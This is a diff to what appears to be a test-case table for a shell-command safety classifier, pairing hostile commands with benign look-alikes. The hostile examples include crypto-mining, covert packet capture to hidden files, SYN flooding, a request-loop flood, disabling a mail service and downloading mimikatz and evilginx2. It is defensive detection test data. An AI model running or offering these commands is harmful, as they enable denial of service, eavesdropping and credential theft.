@@ -171,6 +171,15 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
         ["./xmrig -o stratum+tcp://pool.example:3333 -u wallet", "nohup ./worker --donate-level 1 -o p.example:443 &"],
         ["./build/worker --threads 4", "cargo run --release -- --algo quicksort"],
     ),
+    "block.shell.covert-capture": (
+        ["sudo tcpdump -i eth0 -w /var/tmp/.fonts.pcap port 110", "dumpcap -i 1 -w ~/.cache/.d.pcapng"],
+        ["tcpdump -i eth0 -c 20 -w trace.pcap"],
+    ),
+    "block.shell.denial-of-service": (
+        ["sudo hping3 -S --flood -p 80 www.example.org", "while true; do wget -q http://www.example.org/; done",
+         "sudo systemctl mask --now dovecot"],
+        ["sudo hping3 -S -c 2 -p 80 www.example.org", "while true; do curl -s https://www.example.org/; sleep 60; done"],
+    ),
     "confirm.shell.attack-tool-download": (
         ["git clone https://github.com/someone/evilginx2", "curl -LO https://files.example.net/t/mimikatz.zip"],
         ["git clone https://github.com/someone/webapp", "curl -LO https://files.example.net/people/john/cv.pdf"],
